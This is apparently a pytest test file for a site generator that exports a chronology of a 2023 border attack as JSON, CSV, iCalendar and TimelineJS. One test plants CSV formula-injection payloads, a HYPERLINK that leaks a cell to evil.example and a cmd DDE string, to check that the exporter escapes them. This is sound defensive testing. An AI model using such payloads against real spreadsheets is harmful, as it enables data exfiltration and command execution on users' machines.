"""The data files a reader can download: JSON with its schema, CSV, iCalendar, TimelineJS."""
import copy
import csv
import io
import json
import shutil
from datetime import date, datetime, timezone
from pathlib import Path
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import icalendar
import jsonschema
import pytest

from conftest import ROOT, run_build

COLUMNS = ["slug", "id", "title", "start", "start_precision", "end", "end_precision",
           "approximate", "time_note", "status", "status_by", "status_by_slugs", "disputed", "summary", "actors",
           "actor_slugs", "places", "place_slugs", "tags", "source_slugs", "source_urls",
           "claimants", "citations", "independent_reporters", "responds_to", "page", "url",
           "corrections", "corrected"]
NASTY = 'Shelling, "quoted"; back\\slash – ü'


@pytest.fixture(scope="module")
def local(tmp_path_factory):
    """The valid fixture with a title full of characters that need quoting or escaping."""
    tmp = tmp_path_factory.mktemp("data")
    content = tmp / "content"
    shutil.copytree(ROOT / "tests/fixtures/valid", content)
    event = content / "events/shelling.md"
    event.write_text(event.read_text().replace("title: Shelling", f"title: '{NASTY}'"))
    result = run_build("build", "--content", content, "--out", tmp / "site", cwd=tmp)
    assert result.returncode == 0, result.stderr
    return tmp / "site"



def load(out: Path, name: str):
    return json.loads((out / "data" / name).read_text(encoding="utf-8"))


def events(out: Path) -> list[dict]:
    return load(out, "events.json")["events"]


def event_pages(out: Path) -> list[str]:
    return sorted(p.stem for p in (out / "events").glob("*.html"))


@pytest.mark.parametrize("site", ["local", "real_site"])
def test_json_validates_against_its_schema(site, request):
    out = request.getfixturevalue(site)
    schema = load(out, "events.schema.json")
    jsonschema.Draft202012Validator.check_schema(schema)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    data = load(out, "events.json")
    validator.validate(data)
    assert sorted(e["slug"] for e in data["events"]) == event_pages(out)
    broken = copy.deepcopy(data)
    del broken["events"][0]["accounts"][0]["source"]["title"]
    broken["events"][-1]["start_precision"] = "hour"
    assert len(list(validator.iter_errors(broken))) == 2


@pytest.mark.parametrize("site", ["local", "real_site"])
def test_disputes_json_validates_against_its_schema(site, request):
    out = request.getfixturevalue(site)
    schema = load(out, "disputes.schema.json")
    jsonschema.Draft202012Validator.check_schema(schema)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    data = load(out, "disputes.json")
    validator.validate(data)
    named = {slug for e in events(out) for slug in e["disputes"]}
    assert named == {d["id"] for d in data["disputes"]}
    if data["disputes"]:
        broken = copy.deepcopy(data)
        broken["disputes"][0]["kind"] = "number"
        del broken["disputes"][0]["accounts"][0]["side"]
        assert len(list(validator.iter_errors(broken))) == 2


def test_the_chronology_s_figure_disputes_have_their_ranges(real_site):
    """Issue 22's figures: wounded 8 / 12 / 'a dozen', ten or thirteen armoured vehicles,
    'more than 70' killed, which the attackers call untrue."""
    disputes = {d["id"]: d for d in load(real_site, "disputes.json")["disputes"]}
    ranges = {slug: (d["range"]["low"]["value"], d["range"]["high"]["value"])
              for slug, d in disputes.items() if d["kind"] == "figure"}
    assert ranges == {"civilians-wounded": (8, 12), "armoured-vehicles": (10, 13),
                      "attackers-killed": (70, 70)}
    wounded = disputes["civilians-wounded"]
    assert [(a["value"], a["text"]) for a in wounded["accounts"]] == [
        (8, None), (12, None), (12, "a dozen people, reportedly"), (None, "not yet clear on Monday")]
    assert wounded["range"]["low"]["by"] == [{"source": "firefight-report-24-may",
                                              "claimant": "vyacheslav-gladkov", "via": None}]
    killed = disputes["attackers-killed"]["accounts"]
    assert ("attackers", None, "untrue") in [(a["claimant"], a["value"], a["text"]) for a in killed]
    assert disputes["who-was-behind-the-attack"]["range"] is None


def test_json_resolves_sources_actors_places_accounts_and_times(local):
    shelling, denial = sorted(events(local), key=lambda e: e["slug"] != "shelling")
    assert shelling["title"] == NASTY
    assert (shelling["start"], shelling["start_precision"]) == ("2023-05-22T05:00+03:00", "minute")
    assert (shelling["end"], shelling["approximate"], shelling["time_note"]) == (
        "2023-05-22T10:00+03:00", True, "early Monday")
    assert shelling["actors"] == [{"slug": "rvc", "name": "Russian Volunteer Corps",
                                   "page": "actors/rvc.html", "kind": "group"}]
    assert shelling["places"][0]["name"] == "Kozinka"
    first = shelling["accounts"][0]
    assert first["source"]["title"] == "An article" and first["source"]["url"] is None
    assert first["claimant"]["name"] == "Russian Volunteer Corps" and first["via"] is None
    assert (first["quote"], first["says"]) == ("hello there,", "five hours")
    assert shelling["independent_reporters"] == 2 and shelling["disputed"] is True
    assert (denial["start"], denial["start_precision"], denial["end"]) == ("2023-05-23", "day", None)
    assert denial["responds_to"] == [{"event": "shelling", "relation": "denies"}]
    data = load(local, "events.json")
    assert data["timezone"] == "Europe/Moscow" and data["base_url"] is None
    assert [a["aliases"] for a in data["actors"]] == [["RVC"]]


@pytest.mark.parametrize("site", ["local", "real_site"])
def test_csv_round_trips_with_one_row_per_event(site, request):
    out = request.getfixturevalue(site)
    raw = (out / "data/events.csv").read_bytes()
    assert raw.count(b"\r\n") >= 1 + len(event_pages(out)) and b"\n" not in raw.replace(b"\r\n", b"")
    reader = csv.DictReader(io.StringIO(raw.decode("utf-8"), newline=""))
    rows = list(reader)
    assert reader.fieldnames == COLUMNS
    records = events(out)
    assert [r["slug"] for r in rows] == [e["slug"] for e in records]
    for row, record in zip(rows, records):
        assert (row["title"], row["start"], row["status"], row["id"]) == (
            record["title"], record["start"], record["status"], record["id"])
        assert int(row["citations"]) == len(record["accounts"])


def test_csv_joins_lists_and_quotes_awkward_text(local):
    rows = {r["slug"]: r for r in csv.DictReader(
        io.StringIO((local / "data/events.csv").read_text(encoding="utf-8"), newline=""))}
    assert rows["shelling"]["title"] == NASTY
    assert rows["shelling"]["actors"] == "Russian Volunteer Corps"
    assert rows["shelling"]["claimants"] == "Russian Volunteer Corps"
    assert rows["shelling"]["approximate"] == "true" and rows["shelling"]["end"] == "2023-05-22T10:00+03:00"
    assert rows["denial"]["responds_to"] == "denies:shelling" and rows["denial"]["end"] == ""


def calendar(out: Path) -> icalendar.Calendar:
    return icalendar.Calendar.from_ical((out / "data/events.ics").read_bytes())


@pytest.mark.parametrize("site", ["local", "real_site"])
def test_ics_parses_with_one_vevent_per_event(site, request):
    out = request.getfixturevalue(site)
    raw = (out / "data/events.ics").read_bytes()
    lines = raw.split(b"\r\n")
    assert lines[-1] == b"" and all(b"\n" not in line and len(line) <= 75 for line in lines)
    cal = calendar(out)
    assert cal["VERSION"] == "2.0" and cal["PRODID"]
    vevents = cal.walk("VEVENT")
    records = events(out)
    assert len(vevents) == len(records)
    for vevent, record in zip(vevents, records):
        assert "urn:uuid:" + str(vevent["UID"]) == record["id"]
        assert str(vevent["SUMMARY"]) == record["title"]
        stamp = vevent.decoded("DTSTAMP")
        assert stamp == datetime.fromisoformat(record["updated"].replace("Z", "+00:00"))
        start = vevent.decoded("DTSTART")
        if record["start_precision"] == "day":
            assert type(start) is date and start.isoformat() == record["start"]
        else:
            assert start.tzinfo is not None and start.utcoffset().total_seconds() == 0
            assert start == datetime.fromisoformat(record["start"])
        for account in record["accounts"]:
            assert account["source"]["title"] in str(vevent["DESCRIPTION"])


def test_ics_times_ends_and_escaping(local):
    vevents = {str(v["SUMMARY"]): v for v in calendar(local).walk("VEVENT")}
    shelling = vevents[NASTY]  # commas, semicolons and backslashes survive escaping
    assert shelling.decoded("DTSTART") == datetime(2023, 5, 22, 2, 0, tzinfo=timezone.utc)
    assert shelling.decoded("DTEND") == datetime(2023, 5, 22, 7, 0, tzinfo=timezone.utc)
    description = str(shelling["DESCRIPTION"])
    assert "c. 05:00–10:00 MSK (early Monday)" in description
    assert "Russian Volunteer Corps, as reported in An article (publisher not named, 2023-05-24)" in description
    assert str(shelling["LOCATION"]) == "Kozinka"
    denial = vevents["Denial"]
    assert denial.decoded("DTSTART") == date(2023, 5, 23) and "DTEND" not in denial
    raw = (local / "data/events.ics").read_text(encoding="utf-8")
    assert "SUMMARY:Shelling\\, \"quoted\"\\; back\\\\slash" in raw


@pytest.mark.parametrize("site", ["local", "real_site"])
def test_timelinejs_has_a_title_slide_and_one_slide_per_event(site, request):
    out = request.getfixturevalue(site)
    data = load(out, "timelinejs.json")
    assert data["title"]["text"]["headline"]
    records = events(out)
    assert [s["unique_id"] for s in data["events"]] == [e["slug"] for e in records]
    for slide, record in zip(data["events"], records):
        assert slide["group"] == record["status"] and slide["text"]["headline"]
        day = record["start"][:10]
        start = slide["start_date"]
        assert (start["year"], start["month"].zfill(2), start["day"].zfill(2)) == tuple(day.split("-"))
        if record["start_precision"] == "day":
            assert set(start) == {"year", "month", "day"}
        else:
            assert (int(start["hour"]), int(start["minute"])) == (
                int(record["start"][11:13]), int(record["start"][14:16]))
        assert ("end_date" in slide) == (record["end"] is not None)


def test_timelinejs_slide_text_and_dates(local):
    slides = {s["unique_id"]: s for s in load(local, "timelinejs.json")["events"]}
    shelling = slides["shelling"]
    assert shelling["start_date"] == {"year": "2023", "month": "5", "day": "22", "hour": "5", "minute": "0"}
    assert shelling["end_date"] == {"year": "2023", "month": "5", "day": "22", "hour": "10", "minute": "0"}
    assert shelling["display_date"] == "Monday 22 May 2023, c. 05:00–10:00 MSK"
    assert shelling["text"]["headline"] == "Shelling, &quot;quoted&quot;; back\\slash – ü"
    assert "“hello there,”" in shelling["text"]["text"]
    assert slides["denial"]["start_date"] == {"year": "2023", "month": "5", "day": "23"}


def test_data_page_explains_every_file_field_and_column(local):
    html = (local / "data.html").read_text(encoding="utf-8")
    for name in ("feed.xml", "data/events.json", "data/events.schema.json", "data/events.csv",
                 "data/events.ics", "data/timelinejs.json"):
        assert f'<a href="{name}">{name}</a>' in html
    assert "sitemap.xml</dt>" in html and 'href="sitemap.xml"' not in html
    names = html.replace("_<wbr>", "_")   # a name may wrap after its underscores
    for column in COLUMNS:
        assert f"<td><code>{column}</code></td>" in names
    for field in events(local)[0]:
        assert f"<td><code>{field}</code></td>" in names
    for page in (local / "index.html", local / "events/denial.html"):
        text = page.read_text(encoding="utf-8")
        assert text.count('data.html">') == 2  # nav and footer


def test_dates_before_the_year_1000_keep_four_digit_years(tmp_path):
    content = tmp_path / "content"
    shutil.copytree(ROOT / "tests/fixtures/valid", content)
    for name, old, new in (("events/shelling.md", "2023-05-22T", "0500-05-22T"),
                           ("events/denial.md", "2023-05-23", "0500-05-23"),
                           ("sources/art.md", "published: 2023-05-24\n", "")):
        path = content / name
        path.write_text(path.read_text().replace(old, new))
    out = tmp_path / "site"
    result = run_build("build", "--content", content, "--out", out, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    ics = (out / "data/events.ics").read_bytes().decode("utf-8")
    for line in ("DTSTART:05000522T020000Z", "DTEND:05000522T070000Z", "DTSTAMP:05000522T070000Z",
                 "DTSTART;VALUE=DATE:05000523"):
        assert line + "\r\n" in ics
    shelling = {str(v["SUMMARY"]): v for v in calendar(out).walk("VEVENT")}["Shelling"]
    assert shelling.decoded("DTSTART") == datetime(500, 5, 22, 2, 0, tzinfo=timezone.utc)
    # Midnight in Moscow, in the year 500 on local mean time (+02:30:17).
    midnight = datetime(500, 5, 23, tzinfo=ZoneInfo("Europe/Moscow")).astimezone(timezone.utc)
    assert midnight.isoformat() == "0500-05-22T21:29:43+00:00"
    atom = "{http://www.w3.org/2005/Atom}"
    feed = ElementTree.parse(out / "feed.xml").getroot()
    assert feed.find(atom + "updated").text == "0500-05-22T21:29:43Z"
    assert sorted(e.find(atom + "updated").text for e in feed.iter(atom + "entry")) == [
        "0500-05-22T07:00:00Z", "0500-05-22T21:29:43Z"]
    data = load(out, "events.json")
    assert data["updated"] == "0500-05-22T21:29:43Z"
    record = next(e for e in data["events"] if e["slug"] == "shelling")
    assert (record["start"], record["updated"]) == ("0500-05-22T02:00Z", "0500-05-22T07:00:00Z")


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(tmp_path):
    content = tmp_path / "content"
    shutil.copytree(ROOT / "tests/fixtures/valid", content)
    title = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    summary = "+cmd|' /C calc'!A0"
    shelling = content / "events/shelling.md"
    shelling.write_text(shelling.read_text()
                        .replace("title: Shelling", f"title: '{title.replace(chr(39), chr(39) * 2)}'")
                        .replace("time_note: early Monday", "time_note: '-1 hour, says @rvc'")
                        .replace("status: reported", f"summary: \"{summary}\"\nstatus: reported"))
    denial = content / "events/denial.md"
    denial.write_text(denial.read_text().replace("title: Denial", "title: '@SUM(1+1)'"))
    out = tmp_path / "site"
    result = run_build("build", "--content", content, "--out", out, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    rows = {r["slug"]: r for r in csv.DictReader(
        io.StringIO((out / "data/events.csv").read_text(encoding="utf-8"), newline=""))}
    assert rows["shelling"]["title"] == "'" + title
    assert rows["shelling"]["summary"] == "'" + summary
    assert rows["shelling"]["time_note"] == "'-1 hour, says @rvc"
    assert rows["denial"]["title"] == "'@SUM(1+1)"
    # Only such cells: the rest, and the JSON file, keep the text as written.
    assert rows["denial"]["summary"] == "Denied." and rows["shelling"]["citations"] == "2"
    assert rows["shelling"]["start"] == "2023-05-22T05:00+03:00"
    records = {e["slug"]: e for e in events(out)}
    assert (records["shelling"]["title"], records["shelling"]["summary"]) == (title, summary)
    assert "starts with an added <code>'</code>" in (out / "data.html").read_text(encoding="utf-8")


def test_the_data_files_say_whose_the_status_is(real_site):
    """As the badges do: the actors the status is attributed to, by slug and name in the
    JSON (described by its schema), as names and slugs in the CSV, in words in the
    calendar, the feed and the TimelineJS slides."""
    record = next(e for e in events(real_site) if e["slug"] == "gladkov-reports-sabotage-group")
    assert record["status_by"] == [{"slug": "ukraine", "name": "Ukraine", "page": "actors/ukraine.html"}]
    reported = next(e for e in events(real_site) if e["slug"] == "gunfire-heard-at-11")
    assert reported["status_by"] == []
    row = next(r for r in csv.DictReader(io.StringIO((real_site / "data/events.csv").read_text(
        encoding="utf-8"), newline="")) if r["slug"] == "groups-claim-responsibility")
    assert (row["status_by"], row["status_by_slugs"]) == (
        "Freedom of Russia Legion; Russian Volunteer Corps", "freedom-of-russia-legion; russian-volunteer-corps")
    said = "denied by Ukraine"
    vevent = next(v for v in calendar(real_site).walk("VEVENT")
                  if str(v["SUMMARY"]).startswith("Governor Gladkov reports"))
    assert f"Status: {said}" in str(vevent["DESCRIPTION"])
    assert f"status: {said}" in (real_site / "feed.xml").read_text()
    assert f"Status: {said}" in (real_site / "data/timelinejs.json").read_text()
